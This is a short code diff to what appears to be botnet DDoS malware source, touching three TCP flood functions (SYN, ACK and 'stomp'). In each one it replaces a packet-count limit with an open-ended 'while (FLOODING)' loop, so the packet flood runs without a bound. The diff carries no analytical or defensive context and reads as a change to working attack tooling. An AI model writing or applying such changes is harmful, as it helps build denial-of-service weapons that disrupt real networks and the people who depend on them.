@@ -94,7 +94,7 @@ void attack_tcp_syn(ATTACK_ARGUMENTS)
         tcp->flags = flags;
         fill_syn_options((uint8_t *)(tcp + 1));
     }
-    while (packets_left > 0) {
+    while (FLOODING) {
         for (i = 0; i < target_count; i++) {
             struct ip_header *ip = (struct ip_header *)packets[i];
             struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
@@ -154,7 +154,7 @@ void attack_tcp_ack(ATTACK_ARGUMENTS)
         tcp->window = (uint16_t)rand_next();
         rand_bytes((char *)(tcp + 1), size);
     }
-    while (packets_left > 0) {
+    while (FLOODING) {
         for (i = 0; i < target_count; i++) {
             struct ip_header *ip = (struct ip_header *)packets[i];
             struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
@@ -246,7 +246,7 @@ void attack_tcp_stomp(ATTACK_ARGUMENTS)
         learn_numbers(fd, &targets[i], tcp);
         rand_bytes((char *)(tcp + 1), size);
     }
-    while (packets_left > 0) {
+    while (FLOODING) {
         for (i = 0; i < target_count; i++) {
             struct ip_header *ip = (struct ip_header *)packets[i];
             struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
